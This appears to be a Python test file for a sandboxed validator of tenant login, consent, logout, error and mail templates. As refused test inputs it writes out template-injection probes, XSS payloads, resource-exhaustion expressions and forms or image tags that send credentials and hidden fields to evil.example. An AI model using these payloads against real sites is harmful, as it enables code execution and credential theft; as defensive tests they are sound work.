"""Tenant page templates, checked before they are stored: the documented context only, the
sandbox as a second wall, bounded work, no markup that loads or runs anything, and the forms
a page needs (chalicelib/templating)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from chalicelib.templating import BUILT_IN_MAIL, MAX_SOURCE_BYTES, PAGES, TemplateProblem, sandbox, schema
from chalicelib.templating.validate import validate

ROOT = Path(__file__).resolve().parents[2]

LOGIN = """<h1>{{ _("Sign in") }} · {{ brand_name }}</h1>
<p>{% trans name=client.name %}to continue to <strong>{{ name }}</strong>{% endtrans %}</p>
{% if error %}<p class="error" role="alert">{{ error }}</p>{% endif %}
<form method="post" action="{{ urls.login }}">{{ form_fields }}
  <label for="u">{{ _("Username") }}</label><input id="u" name="username" value="{{ username }}">
  <label for="p">{{ _("Password") }}</label><input id="p" type="password" name="password">
  <div class="actions"><button class="primary" name="action" value="login">{{ _("Sign in") }}</button></div>
</form>
<small class="links"><a href="{{ forgot_password_url }}">{{ _("Forgot your password?") }}</a>
{% if signup_url %}<a href="{{ signup_url }}">{{ _("Create an account") }}</a>{% endif %}</small>"""
CONSENT = """<h1>{{ client.name }}{% if not client.verified %} ({{ _("Unverified") }}){% endif %}</h1>
<ul>{% for scope in scopes %}<li>{{ loop.index }}. {{ scope.title }}: {{ scope.description }}</li>{% endfor %}</ul>
<form method="post" action="{{ urls.consent }}">{{ form_fields }}
  <button name="decision" value="allow">{{ _("Allow") }}</button>
  <button name="decision" value="decline">{{ _("Decline") }}</button></form>"""
LOGOUT = """<h1>{{ _("Sign out?") }}</h1>{% if client %}<p>{{ client.name }}</p>{% endif %}
<form method="post" action="{{ urls.end_session_confirm }}">{{ form_fields }}
  <button name="decision" value="logout">{{ _("Sign out") }}</button></form>"""
ERROR = (
    """<h1>{{ _("Something went wrong") }}</h1><p>{{ error }}{% if description %}: {{ description }}{% endif %}</p>"""
)
GOOD = {"login": LOGIN, "consent": CONSENT, "logout": LOGOUT, "error": ERROR}


@pytest.mark.parametrize("page", PAGES)
def test_a_template_of_each_page_using_its_documented_context_is_accepted_as_it_is(page):
    assert validate(page, GOOD[page]) == GOOD[page]


# (page, template, the refusal's message, its line)
REFUSED = [
    # Python internals: not a documented attribute, so never reached (and the sandbox: below).
    ("error", "{{ ''.__class__.__mro__ }}", "attribute '__mro__' may only follow a documented variable", 1),
    ("error", "\n{{ error.__class__ }}", "unknown attribute error.__class__", 2),
    ("error", "{{ client }}", "unknown variable 'client'", 1),  # the login's, not the error page's
    ("error", "{{ error['__class__'] }}", "[...] subscription is not available", 1),
    ("error", "{{ csp_nonce }}", "unknown variable 'csp_nonce'", 1),
    ("error", "{{ config }}", "unknown variable 'config'", 1),
    ("login", LOGIN.replace("{{ username }}", "{{ usernme }}"), "unknown variable 'usernme'", 5),
    ("login", LOGIN.replace("client.name", "client.secret_hash"), "unknown attribute client.secret_hash", 2),
    # Resource abuse: no range(), no multiplication, no %-widths, no loops in loops.
    ("error", "{{ range(10**9) }}", "only _(), gettext() and ngettext() may be called", 1),
    ("error", "{{ 'x' * 1000000000 }}", "the operator * is not available", 1),
    ("error", "{{ 10 ** 10 ** 10 }}", "the operator ** is not available", 1),
    ("error", "{{ '%s' % error }}", "the operator % is not available", 1),
    ("error", '{{ _("%(e)999999999s", e=error) }}', "messages may not carry a %-width or precision", 1),
    ("error", "{{ _(error) }}", "_() takes literal messages", 1),
    ("error", "{{ error.upper() }}", "only _(), gettext() and ngettext() may be called", 1),
    ("error", "{{ error|center(1000000000) }}", "the filter 'center' is not available", 1),
    ("error", "{{ error|safe }}", "the filter 'safe' is not available", 1),
    ("error", "{% set x = error ~ error %}", "{% set %} is not available", 1),
    ("error", "{% macro f() %}{{ f() }}{% endmacro %}", "{% macro %} is not available", 1),
    ("error", "{% for c in error %}{% endfor %}", "a loop may only go over a documented list", 1),
    ("consent", CONSENT.replace("{{ loop.index }}", "{% for s in scopes %}{% endfor %}"), "loops may not be nested", 2),
    ("error", "{% autoescape false %}{{ error }}{% endautoescape %}", "{% autoescape %} is not available", 1),
    ("error", "{% include 'base.html' %}", "{% include %} is not available", 1),
    ("error", "{% extends 'base.html' %}", "{% extends %} is not available", 1),
    ("error", "{{ namespace(a=1) }}", "only _(), gettext() and ngettext() may be called", 1),
    # Markup that runs, loads or redirects: the CSP would stop most; all are refused.
    ("error", "<script>alert(1)</script>", "the element <script> is not allowed", None),
    ("error", "<scr{{ '' }}ipt>alert(1)</script>", "the element <script> is not allowed", None),
    ("error", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "the element <meta>", None),
    ("error", '<meta http-equiv="Content-Security-Policy" content="default-src *">', "the element <meta>", None),
    ("error", '<link rel="stylesheet" href="https://evil.example/x.css">', "the element <link>", None),
    ("error", "<style>body{display:none}</style>", "the element <style> is not allowed", None),
    ("error", '<base href="https://evil.example/">', "the element <base> is not allowed", None),
    ("error", '<iframe src="https://evil.example/"></iframe>', "the element <iframe> is not allowed", None),
    ("error", '<img src="x" onerror="alert(1)">', "the attribute onerror (on <img>) is not allowed", None),
    ("error", '<p style="color:red">x</p>', "the attribute style (on <p>) is not allowed", None),
    ("error", '<a href=" java&#9;script:alert(1)">x</a>', "a javascript: URL (in <a href>) is not allowed", None),
    ("error", '<p nonce="abc">x</p>', "the attribute nonce (on <p>) is not allowed", None),
    # Where browsers and Python's parser disagree on where a comment or declaration ends.
    ("error", '<!--><meta http-equiv="refresh" content="0;url=https://evil.example/">-->', "<!...>", None),
    ("error", '<![CDATA[ x ><meta http-equiv="refresh" content="0;url=https://evil.example/"> ]]>', "<!...>", None),
    ("error", "<?php x ?>", "<?...>", None),
    # Work that multiplies: a string joined with itself, twice, made gigabytes.
    ("error", "{{ urls.login|join(urls.login) }}", "join takes a list", 1),
    ("error", "{{ (error|sort)|join(error|sort|join('x' * 1)) }}", "the operator * is not available", 1),
    ("error", "{{ 1" + "+1" * 3000 + " }}", "nests too deeply", None),
    # The page's form and what it must post.
    ("login", LOGIN.replace("{{ form_fields }}", ""), "the page must render {{ form_fields }} inside its form", None),
    ("login", LOGIN.replace('name="password"', 'name="pw"'), 'a control with name="password"', None),
    ("login", LOGIN.replace('action="{{ urls.login }}"', 'action="https://evil.example/"'),
     "a form posts to one of the tenant's pages", None),
    ("login", LOGIN.replace('action="{{ urls.login }}"', 'action="{{ urls.consent }}"'), "urls.login", None),
    ("login", LOGIN + '<form method="post" action="https://evil.example/"><input name="x"></form>',
     "a form posts to one of the tenant's pages", None),
    ("error", '<form method="get" action="{{ urls.login }}"></form>', "a form posts to one of the tenant's", None),
    ("login", LOGIN.replace('<button class="primary"', '<button formaction="https://evil.example/" class="primary"'),
     "the attribute formaction (on <button>) is not allowed", None),
    ("consent", CONSENT.replace('value="allow"', 'value="yes"'), 'name="decision" value="allow"', None),
    ("logout", LOGOUT.replace("{{ form_fields }}", ""), "{{ form_fields }}", None),
    # The hidden fields sent elsewhere: the template holds a placeholder, never the values, and
    # the placeholder must stand as a tag of its own.
    ("login", LOGIN + "<img src='https://evil.example/?{{ form_fields }}'>", "stands on its own", None),
    ("login", LOGIN + "<img src=https://evil.example/?{{ form_fields }}>", "stands on its own", None),
    ("login", LOGIN + "<textarea>{{ form_fields }}</textarea>", "stands on its own", None),
    ("login", LOGIN.replace("{{ form_fields }}", "{{ form_fields|upper }}"), "must render {{ form_fields }}", None),
    # Markup left open swallows our layout after it (up to the next quote) into a URL.
    ("login", LOGIN + "<img src='https://evil.example/?", "ends inside a tag", None),
    ("login", LOGIN + "<textarea name=x>", "ends inside a tag, an attribute or a textarea", None),
    ("error", "<plaintext>", "the element <plaintext> is not allowed", None),
    # What the samples without optional values find (a page's client is absent on logout).
    ("logout", LOGOUT.replace("{% if client %}<p>{{ client.name }}</p>{% endif %}", "{{ client.name }}"),
     "'None' has no attribute 'name'", 1),
    ("error", "{{ error", "unexpected end of template", 1),
    ("error", "{% if error %}", "Unexpected end of template", 1),
]  # fmt: skip


@pytest.mark.parametrize(("page", "source", "message", "line"), REFUSED)
def test_an_upload_that_may_not_be_used_is_refused_with_why_and_where(page, source, message, line):
    with pytest.raises(TemplateProblem) as refused:
        validate(page, source)
    assert message in refused.value.message, refused.value.message
    assert refused.value.line == line
    assert str(refused.value) == (f"line {line}: {refused.value.message}" if line else refused.value.message)


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ("x" * (MAX_SOURCE_BYTES + 1), f"at most {MAX_SOURCE_BYTES} bytes"),
        ("é" * (MAX_SOURCE_BYTES // 2 + 1), f"at most {MAX_SOURCE_BYTES} bytes"),  # bytes, not characters
        ("a\x00b", f"at most {MAX_SOURCE_BYTES} bytes"),
        ("\ud800", "UTF-8 text"),
        ("  ", "a non-empty string"),
        (None, "a non-empty string"),
        (["<p>"], "a non-empty string"),
    ],
)
def test_a_template_is_bounded_utf8_text(source, message):
    with pytest.raises(TemplateProblem, match=re.escape(message)):
        validate("error", source)


def test_an_unknown_page_is_refused():
    with pytest.raises(TemplateProblem, match="tenant templates are login, consent, logout, error"):
        validate("account", ERROR)


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ("{{ ''.__class__.__mro__ }}", "access to attribute '__class__' of 'str' object is unsafe"),
        ("{{ error.__init__.__globals__ }}", "access to attribute '__init__' of 'str' object is unsafe"),
        ("{{ range(10) }}", "'range' is undefined"),
        ("{{ namespace() }}", "'namespace' is undefined"),
        ("{{ 'x' * 1000000000 }}", "the operator * is not available in templates"),
        ("{{ error|safe }}", "No filter named 'safe'"),
        ("{{ error|attr('__class__') }}", "No filter named 'attr'"),
    ],
)
def test_the_sandbox_alone_refuses_internals_and_unbounded_work(source, message):
    """The second wall: what ``check`` refuses first, the environment refuses when run."""
    with pytest.raises(TemplateProblem, match=re.escape(message)):
        sandbox.render(sandbox.compile_template(source, "en"), {"error": "invalid_request"})


def test_a_render_stops_at_its_output_bound():
    template = sandbox.compile_template("{% for s in scopes %}{{ s.title }}{% endfor %}", "en")
    with pytest.raises(TemplateProblem, match="longer than"):
        sandbox.render(template, {"scopes": [{"title": "x" * 1000}] * 300})


@pytest.mark.parametrize(("language", "text"), [("en", "Sign in"), ("de", "Anmelden"), ("fr", "Se connecter")])
def test_underscore_translates_with_the_pages_language(language, text):
    template = sandbox.compile_template('{{ _("Sign in") }}|{{ _("Not in any catalog") }}', language)
    assert sandbox.render(template, {}) == f"{text}|Not in any catalog"


def test_values_are_autoescaped_and_only_documented_ones_reach_the_template():
    context = schema.context_for("error", {"error": "<b>x</b>", "description": None, "csp_nonce": "n0nce", "urls": {}})
    assert "csp_nonce" not in context and set(context) == set(schema.PAGES["error"])
    template = sandbox.compile_template("{{ error }}", "en")
    assert sandbox.render(template, context) == "&lt;b&gt;x&lt;/b&gt;"


def test_every_documented_name_is_in_the_documentation():
    documentation = (ROOT / "docs" / "templates.md").read_text()
    for page, variables in schema.PAGES.items():
        assert f"### {page}" in documentation
        for name, variable in variables.items():
            assert f"`{name}`" in documentation, name
            for attribute in (*variable.fields, *variable.items):
                assert f"`{attribute}`" in documentation, f"{name}.{attribute}"


@pytest.mark.parametrize(("name", "built_in"), [(name, file) for file, name in BUILT_IN_MAIL.items()])
def test_the_built_in_mail_templates_pass_as_tenant_templates(name, built_in):
    """The documented mail context is what our own messages use: each validates as it is."""
    source = (ROOT / "templates" / "mail" / built_in).read_text()
    assert validate(name, source) == source


@pytest.mark.parametrize(
    ("source", "message", "line"),
    [
        ("Hello {{ link }}", "a mail template's first line is Subject: and the subject", 1),
        ("Subject: \n{{ link }}", "a mail template's first line is Subject: and the subject", 1),
        ("Subject: " + "x" * 201 + "\n{{ link }}", "a subject is at most 200 characters", 1),
        ("Subject: {{ tenant }}\nNo link.", "the message must carry {{ link }} in its body", None),
        ("Subject: {{ link }}\nNo link.", "the message must carry {{ link }} in its body", None),
        ("Subject: hi\n{{ link }} {{ email }}", "unknown variable 'email'", 2),  # reset mail: username, not email
        ("Subject: hi\n{{ link }} {{ ''.__class__ }}", "attribute '__class__' may only follow", 2),
    ],
)
def test_a_mail_template_needs_its_subject_line_and_its_link(source, message, line):
    with pytest.raises(TemplateProblem) as refused:
        validate("mail_reset", source)
    assert message in refused.value.message and refused.value.line == line


def test_mail_is_text_nothing_is_escaped():
    template = sandbox.compile_template("Subject: {{ tenant }}\n{{ link }}", "en", text=True)
    assert sandbox.render(template, {"tenant": "A & B <x>", "link": "https://l?a=1&b=2"}) == (
        "Subject: A & B <x>\nhttps://l?a=1&b=2"
    )


def test_a_join_or_a_message_that_would_pass_the_bound_is_refused_before_it_is_built():
    """``join`` of a long list with a long separator, or a message whose placeholders repeat
    a long value: refused before the string exists (the output's cap is checked too late)."""
    template = sandbox.compile_template("{{ scopes|join(error) }}", "en")
    with pytest.raises(TemplateProblem, match="longer than"):
        sandbox.render(template, {"scopes": ["x"] * 1000, "error": "y" * 1000})
    message = sandbox.compile_template('{{ _("' + "%(e)s" * 1000 + '", e=error) }}', "en")
    with pytest.raises(TemplateProblem, match="longer than"):
        sandbox.render(message, {"error": "y" * 1000})


def test_a_form_shown_only_on_some_renders_is_refused_where_it_shows():
    """The upload's samples never meet the condition; the page's own render does, and the
    built-in page stands in (markup.problems runs on every render, with the real URLs)."""
    from chalicelib.templating import markup

    html = '<form method="post" action="https://evil.example/x"><input name="password"></form>'
    assert markup.problems(html, {"https://op.example.test/acme/login"}) == [
        "a form posts to one of the tenant's pages: {{ urls.<page> }}"
    ]
    assert markup.problems('<form method="post" action="https://op.example.test/acme/login"></form>',
                           {"https://op.example.test/acme/login"}) == []  # fmt: skip
